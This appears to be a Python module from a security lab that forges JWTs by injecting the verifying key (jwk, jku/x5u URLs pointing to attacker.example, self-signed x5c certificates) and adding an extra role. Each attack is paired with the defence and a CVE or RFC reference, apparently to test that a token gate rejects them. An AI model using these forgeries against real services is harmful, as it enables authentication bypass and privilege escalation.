"""Attacks in which the token brings the key that verifies it, or says where to get it."""

import base64
from datetime import timedelta
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding

from daypass.lab.attacks.attack import Attack, Defence, Reference
from daypass.lab.attacks.forging import Target, part
from daypass.lab.attacks.unsigned import with_extra_role

HEADER = Defence("tokens.codec._key", 'if set(header) != HEADER_MEMBERS or header["typ"] != "JWT":')
URL = "https://attacker.example/keys.json"


def with_own_jwk(target: Target) -> list[str]:
    """A token with its public key in the header, as a JWK."""
    own = _new_key()
    return [_signed(target, own, jwk=_jwk(own))]


def with_key_url(target: Target) -> list[str]:
    """Tokens whose header has the URL of their public key."""
    return [_signed(target, _new_key(), jku=URL), _signed(target, _new_key(), x5u=URL)]


def with_own_certificate(target: Target) -> list[str]:
    """A token with a certificate of its public key in the header, in Base64 and not in base64url."""
    own = _new_key()
    certificate = _certificate(own, target).public_bytes(Encoding.DER)
    return [_signed(target, own, x5c=[base64.b64encode(certificate).decode()])]


def _new_key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _signed(target: Target, own: ec.EllipticCurvePrivateKey, **members: object) -> str:
    """A token signed with the attacker's key, with more members in its header."""
    header = {"alg": "ES256", "typ": "JWT", "kid": target.header["kid"]} | members
    return target.signed(own, header=header, payload=with_extra_role(target))


def _jwk(own: ec.EllipticCurvePrivateKey) -> dict[str, Any]:
    """The public key, on the curve P-256, as a JWK (RFC 7518 section 6.2)."""
    numbers = own.public_key().public_numbers()
    x, y = (part(number.to_bytes(32, "big")) for number in (numbers.x, numbers.y))
    return {"kty": "EC", "crv": "P-256", "x": x, "y": y}


def _certificate(own: ec.EllipticCurvePrivateKey, target: Target) -> x509.Certificate:
    """A certificate that the attacker issued to the name of the site (RFC 5280)."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.ORGANIZATION_NAME, "Daypass")])
    day = timedelta(days=1)
    return (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(own.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(target.now - day)
        .not_valid_after(target.now + day)
        .sign(own, hashes.SHA256())
    )


JWK = Attack(
    name="jwk",
    title="Bring your own key",
    usual_name="jwk header injection",
    hope="The gate trusts the key in the token's own header.",
    request_label="brings its own key",
    finding_label="extra header",
    why="Keys come from the site's own ring only. A header with any member beyond “alg”, “typ” and “kid” is refused.",
    defence=HEADER,
    reference=Reference("CVE-2018-0114", "node-jose before 0.11.0 used the key in the token."),
    forge=with_own_jwk,
    revealing_member="jwk",
)

JKU = Attack(
    name="jku",
    title="A key from the attacker's server",
    usual_name="jku and x5u injection",
    hope="The gate downloads keys from the URL in the token, which is the attacker's.",
    request_label="links to its key",
    finding_label="extra header",
    why="The gate never fetches a URL from a header, so a token cannot make it send requests anywhere.",
    defence=HEADER,
    reference=Reference("RFC 8725 section 3.10", "“Do Not Trust Received Claims”: “jku” and “x5u” can point anywhere."),
    forge=with_key_url,
    revealing_member="jku",
)

CERTIFICATE = Attack(
    name="x5c",
    title="A self-signed certificate",
    usual_name="x5c header injection",
    hope="The gate takes the key from the certificate and does not check who issued it.",
    request_label="with a certificate",
    finding_label="extra header",
    why="The attacker issued the certificate, so it proves nothing. The gate never reads certificates.",
    defence=HEADER,
    reference=Reference("RFC 7515 section 4.1.6", "The recipient must validate the chain of certificates."),
    forge=with_own_certificate,
    revealing_member="x5c",
)
